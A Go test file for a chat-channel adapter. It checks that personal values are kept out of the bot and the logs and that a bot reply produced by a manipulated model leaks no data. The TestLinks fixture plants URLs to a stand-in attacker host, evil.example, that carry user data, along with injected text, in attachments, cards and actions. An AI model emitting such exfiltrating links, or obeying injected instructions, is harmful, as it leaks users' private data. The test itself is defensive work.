package directline_test

import (
	"bytes"
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/deckname/deckname/channel"
	"github.com/deckname/deckname/channel/channeltest"
	"github.com/deckname/deckname/channel/directline"
	"github.com/deckname/deckname/channel/internal/adaptertest"
)

func decoded(t *testing.T, raw []byte) (m map[string]any) {
	t.Helper()
	require.NoError(t, json.NewDecoder(bytes.NewReader(raw)).Decode(&m))
	return m
}

// sent posts a body and returns the user's own activity, as fetched again, without what the server writes.
func (c *chat) sent(v conversation, body []byte) map[string]any {
	c.t.Helper()
	path := "/v3/directline/conversations/" + v.ConversationID + "/activities"
	status, out := c.do("POST", path, v.Token, string(body))
	require.Equal(c.t, 200, status, out)
	_, out = c.do("GET", path, v.Token, "")
	var set struct{ Activities []map[string]any }
	require.NoError(c.t, json.Unmarshal([]byte(out), &set))
	return without(set.Activities[0])
}

// without removes what the server writes over.
func without(a map[string]any) map[string]any {
	for _, f := range []string{"id", "replyToId", "timestamp", "channelId", "conversation", "serviceUrl"} {
		delete(a, f)
	}
	for _, f := range a["attachments"].([]any) {
		delete(f.(map[string]any), "contentUrl") // dropped on the way to the bot
	}
	return a
}

// TestCanaries: a personal value in every string of an Activity reaches neither the bot nor the log, nothing of it is
// stored, and the user gets it back.
func TestCanaries(t *testing.T) {
	c := open(t, nil)
	v := c.start(secret, "")
	body, canaries := channeltest.Fill(t, []byte(adaptertest.Read(t, "../activity/testdata/activity.json")), func(path, _ string) bool { return path == "type" })
	require.Greater(t, len(canaries), 40)
	assert.Equal(t, without(decoded(t, body)), c.sent(v, body))
	require.Len(t, c.seen, 1)
	all, err := json.Marshal(c.seen[0])
	require.NoError(t, err)
	assert.Empty(t, channeltest.Leaks(string(all)+c.log.String()))
}

// TestIdentity: if nothing is found, the bot gets what the user sent.
func TestIdentity(t *testing.T) {
	c := open(t, func(cfg *directline.Config) {
		cfg.Gateway.Engine, cfg.Gateway.Aliases = adaptertest.Silent().Engine, adaptertest.Silent().Aliases
	})
	v := c.start(secret, "")
	body := strings.Replace(adaptertest.Read(t, "../activity/testdata/activity.json"), `{"type":"message"`, `{"type":"message","n":1.50,"big":12345678901234567890`, 1)
	c.sent(v, []byte(body))
	require.Len(t, c.seen, 1)
	assert.Equal(t, without(decoded(t, []byte(body))), without(decoded(t, c.seen[0].Data)))
	assert.Contains(t, string(c.seen[0].Data), "1.50", "numbers as they were written")
	assert.Contains(t, string(c.seen[0].Data), "12345678901234567890")
}

// TestLinks: an answer that a model was talked into carries nothing away.
func TestLinks(t *testing.T) {
	const evil = "https://evil.example/?q=[PERSON_1]"
	c := open(t, func(cfg *directline.Config) {
		cfg.Bot = func(ctx context.Context, _ channel.Message, reply channel.Sender) error {
			data, _ := json.Marshal(map[string]any{"type": "message", "attachments": []any{map[string]any{"contentType": "image/png", "contentUrl": evil},
				map[string]any{"contentType": "application/vnd.microsoft.card.adaptive", "content": map[string]any{"body": []any{map[string]any{"type": "Image", "url": evil}}, "text": adaptertest.Injected}}},
				"suggestedActions": map[string]any{"actions": []any{map[string]any{"type": "openUrl", "value": evil}}}, "value": evil, "channelData": map[string]any{"x": evil}})
			for _, format := range []string{"markdown", "plain", "xml"} {
				if err := reply(ctx, channel.Message{Text: adaptertest.Injected, Format: format, Data: data}); err != nil {
					return err
				}
			}
			return nil
		}
	})
	v := c.start(secret, "")
	path := "/v3/directline/conversations/" + v.ConversationID + "/activities"
	status, out := c.do("POST", path, v.Token, `{"type":"message","text":"`+channeltest.Canary(1)+`"}`)
	require.Equal(t, 200, status, out)
	_, out = c.do("GET", path+"?watermark=1", v.Token, "")
	assert.Equal(t, 3, strings.Count(out, "evil.example/?q=[PERSON_1]) [y]")/2)
	assert.Empty(t, channeltest.Leaks(out), out)
}
